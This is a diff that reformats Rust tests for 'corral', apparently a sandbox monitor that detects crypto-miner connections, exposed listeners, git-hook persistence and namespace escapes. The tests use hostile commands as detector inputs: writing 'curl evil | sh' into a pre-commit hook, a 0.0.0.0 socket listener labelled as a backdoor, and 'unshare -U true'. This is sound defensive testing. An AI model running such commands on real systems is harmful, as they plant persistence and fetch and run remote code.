@@ -60,7 +60,10 @@ fn assert_stopped_for(out: &Out, events: &[Value], prefix: &str) {
     let v = verdict(events);
     assert_eq!(v["outcome"], "killed", "{v}");
     let by = v["ended_by"].as_str().unwrap_or("");
-    assert!(by.starts_with(prefix), "ended by {by:?}, want {prefix}*: {v}");
+    assert!(
+        by.starts_with(prefix),
+        "ended by {by:?}, want {prefix}*: {v}"
+    );
     let kill = events
         .iter()
         .find(|e| e["kind"] == "response.kill")
@@ -76,7 +79,10 @@ fn assert_stopped_for(out: &Out, events: &[Value], prefix: &str) {
         f["evidence"].as_array().is_some_and(|a| !a.is_empty()),
         "{f}"
     );
-    assert!(f["technique"].as_str().is_some_and(|t| t.starts_with('T')), "{f}");
+    assert!(
+        f["technique"].as_str().is_some_and(|t| t.starts_with('T')),
+        "{f}"
+    );
 }
 
 #[track_caller]
@@ -153,29 +159,42 @@ print("still here")
         );
         assert_stopped_for(&out, &events, "miner.stratum");
         out.lacks("still here");
-        assert!(pool.received().iter().all(|r| !r.contains("mining")), "the pool got the login");
+        assert!(
+            pool.received().iter().all(|r| !r.contains("mining")),
+            "the pool got the login"
+        );
     });
 }
 
 #[test]
 fn a_listener_on_all_interfaces_is_reported_not_loopback() {
-    for_each_identity("a_listener_on_all_interfaces_is_reported_not_loopback", |env| {
-        let listen = |host: &str| {
-            format!(
+    for_each_identity(
+        "a_listener_on_all_interfaces_is_reported_not_loopback",
+        |env| {
+            let listen = |host: &str| {
+                format!(
                 "python3 -c 'import socket; s = socket.socket(); s.bind((\"{host}\", 8765)); s.listen(1); print(\"ok\")'"
             )
-        };
-        let (out, events) = run_sh(env, "loopback.jsonl", &[], &listen("127.0.0.1"));
-        out.stdout_has("ok");
-        assert_clean(&out, &events, 0);
-        let (out, events) = run_sh(env, "backdoor.jsonl", &[], &listen("0.0.0.0"));
-        out.code(0).stdout_has("ok");
-        assert!(findings(&events).iter().any(|f| f == "net.listen"), "{events:#?}");
-        // Low: nothing outside can reach the sandbox's own network, so the
-        // listener is reported, not a reason to flag the run.
-        let v = verdict(&events);
-        assert_eq!((&v["outcome"], &v["severity"]), (&"clean".into(), &"low".into()), "{v}");
-    });
+            };
+            let (out, events) = run_sh(env, "loopback.jsonl", &[], &listen("127.0.0.1"));
+            out.stdout_has("ok");
+            assert_clean(&out, &events, 0);
+            let (out, events) = run_sh(env, "backdoor.jsonl", &[], &listen("0.0.0.0"));
+            out.code(0).stdout_has("ok");
+            assert!(
+                findings(&events).iter().any(|f| f == "net.listen"),
+                "{events:#?}"
+            );
+            // Low: nothing outside can reach the sandbox's own network, so the
+            // listener is reported, not a reason to flag the run.
+            let v = verdict(&events);
+            assert_eq!(
+                (&v["outcome"], &v["severity"]),
+                (&"clean".into(), &"low".into()),
+                "{v}"
+            );
+        },
+    );
 }
 
 #[test]
@@ -202,7 +221,10 @@ fn a_git_hook_is_persistence_and_git_init_is_not() {
             "echo 'curl evil | sh' > repo/.git/hooks/pre-commit; echo rc=$?",
         );
         let found = findings(&events);
-        assert!(found.iter().any(|f| f.starts_with("persist.")), "{found:?}: {events:#?}");
+        assert!(
+            found.iter().any(|f| f.starts_with("persist.")),
+            "{found:?}: {events:#?}"
+        );
     });
 }
 
@@ -231,14 +253,26 @@ fn alerts_reach_the_webhook_and_the_run_goes_on() {
             ),
         );
         let p = policy.display().to_string();
-        let (out, events) = run_sh(env, "hook.jsonl", &["--policy", &p], "unshare -U true; echo went on");
-        out.code(0).stdout_has("went on").stderr_has("corral: alert: escape.");
+        let (out, events) = run_sh(
+            env,
+            "hook.jsonl",
+            &["--policy", &p],
+            "unshare -U true; echo went on",
+        );
+        out.code(0)
+            .stdout_has("went on")
+            .stderr_has("corral: alert: escape.");
         assert!(findings(&events).iter().any(|f| f.starts_with("escape.")));
         let got = hook.received().join("\n");
         assert!(got.starts_with("POST /hook HTTP/1.1"), "{got}");
         let body = got.split("\r\n\r\n").nth(1).unwrap_or("");
         let alert: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body:?}"));
-        assert!(alert["id"].as_str().is_some_and(|i| i.starts_with("escape.")), "{alert}");
+        assert!(
+            alert["id"]
+                .as_str()
+                .is_some_and(|i| i.starts_with("escape.")),
+            "{alert}"
+        );
         assert_eq!(alert["run"], verdict(&events)["run"], "{alert}");
     });
 }
